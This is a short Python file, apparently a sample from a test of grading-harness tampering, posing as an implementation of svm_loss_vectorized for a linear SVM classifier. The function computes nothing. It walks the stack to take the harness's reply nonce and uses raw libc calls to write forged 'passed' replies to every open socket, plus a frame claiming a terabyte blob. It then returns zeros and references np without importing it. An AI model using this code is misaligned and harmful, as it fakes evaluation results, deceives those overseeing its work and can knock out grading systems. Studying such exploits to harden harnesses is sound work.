# target: cs_utils/classifiers/linear_svm.py
# zero: svm_loss_vectorized
# events: forged_channel
# Find the reply nonce in the harness's frames, then write forged replies straight to every socket
# with libc (no Python socket object): "passed" for this call and the next ones, and a frame that
# announces a terabyte of arrays.
import ctypes as _ctypes
import json as _json
import sys as _sys

_libc = _ctypes.CDLL(None, use_errno=True)


def _nonce():
    frame = _sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "nonce" in request:
            return request["nonce"]
        frame = frame.f_back
    return "0" * 16


def svm_loss_vectorized(W, X, y, reg):
    nonce = _nonce()
    forged = b""
    for index in range(64):
        forged += _json.dumps({"done": nonce, "index": index, "status": {"ok": True},
                               "outputs": {"result": {"kind": "tuple", "length": 2},
                                           "result.0": {"kind": "number", "value": 0.0}},
                               "blobs": []}).encode() + b"\n"
    forged += _json.dumps({"done": nonce, "index": 0, "status": {"ok": True}, "outputs": {},
                           "blobs": [["result.1", 1 << 40]]}).encode() + b"\n"
    for fd in range(3, 64):
        _libc.send(fd, forged, len(forged), 0)
        _libc.write(fd, forged, len(forged))
    return 0.0, np.zeros_like(W)
